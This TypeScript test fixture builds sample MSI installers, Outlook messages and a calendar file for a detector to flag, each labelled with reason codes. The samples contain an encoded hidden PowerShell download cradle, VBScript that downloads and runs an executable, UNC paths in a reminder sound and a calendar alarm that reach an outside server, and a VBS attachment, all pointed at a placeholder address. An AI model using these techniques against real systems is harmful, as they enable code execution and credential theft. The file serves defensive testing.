// Harmless installers, messages and calendar entries that show the traits of attacks.
import { writeCompoundFile } from '../write-compound-file.ts'
import { writeMsi } from '../write-msi.ts'
import type { Suspect } from './suspect.ts'

const file = (name: string, label: Suspect['label'], reasons: readonly string[], bytes: Uint8Array): Suspect => ({
  name,
  label,
  reasons,
  bytes,
})
const wide = (text: string): Buffer => Buffer.from(text, 'utf16le')
const cradle = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')", 'utf16le').toString(
  'base64',
)

export const packageSuspects: readonly Suspect[] = [
  file(
    'command.msi',
    'malicious',
    ['msi_action_runs_interpreter', 'script_conceals_itself'],
    writeMsi({
      actions: [{ action: 'Run', type: 50, source: 'CMD', target: `/c powershell -nop -w hidden -enc ${cradle}` }],
      properties: { CMD: 'C:\\Windows\\System32\\cmd.exe' },
    }),
  ),
  file(
    'script.msi',
    'suspicious',
    ['msi_action_runs_script', 'script_downloads_and_runs'],
    writeMsi({
      actions: [
        {
          action: 'Run',
          type: 38,
          source: '',
          target:
            'Set h = CreateObject("MSXML2.XMLHTTP")\r\nh.Open "GET", "http://203.0.113.7/a", False\r\nCreateObject("WScript.Shell").Run "cmd /c calc", 0',
        },
      ],
    }),
  ),
  file(
    'binary-script.msi',
    'suspicious',
    ['script_downloads_and_runs'],
    writeMsi({
      actions: [{ action: 'Run', type: 6, source: 'code.vbs', target: '' }],
      binaries: {
        'code.vbs': Buffer.from(
          'Dim h\r\nSet h = CreateObject("MSXML2.XMLHTTP")\r\nh.Open "GET", "http://203.0.113.7/a.exe", False\r\nh.Send\r\nSet s = CreateObject("ADODB.Stream")\r\ns.SaveToFile "C:\\Users\\Public\\a.exe"\r\nCreateObject("WScript.Shell").Run "C:\\Users\\Public\\a.exe", 0\r\n',
        ),
      },
    }),
  ),
  file(
    'reminder.msg',
    'malicious',
    ['message_reminder_reaches_server'],
    writeCompoundFile([
      { name: '__properties_version1.0', bytes: Buffer.alloc(64) },
      { name: '__nameid_version1.0', children: [] },
      { name: '__substg1.0_0037001F', bytes: wide('Meeting') },
      { name: '__substg1.0_8012001F', bytes: wide('\\\\203.0.113.7\\s\\a.wav') },
    ]),
  ),
  file(
    'attached.msg',
    'suspicious',
    ['attachment_is_program'],
    writeCompoundFile([
      { name: '__properties_version1.0', bytes: Buffer.alloc(64) },
      { name: '__nameid_version1.0', children: [] },
      { name: '__substg1.0_0037001F', bytes: wide('Invoice') },
      {
        name: '__attach_version1.0_#00000000',
        children: [
          { name: '__substg1.0_3707001F', bytes: wide('invoice.vbs') },
          {
            name: '__substg1.0_37010102',
            bytes: Buffer.from('Dim s\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "cmd /c calc", 0, False\r\n'),
          },
        ],
      },
    ]),
  ),
  file(
    'share.ics',
    'suspicious',
    ['calendar_reaches_server'],
    Buffer.from(
      'BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Call\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nATTACH:\\\\203.0.113.7\\s\\a.wav\r\nEND:VALARM\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n',
    ),
  ),
]
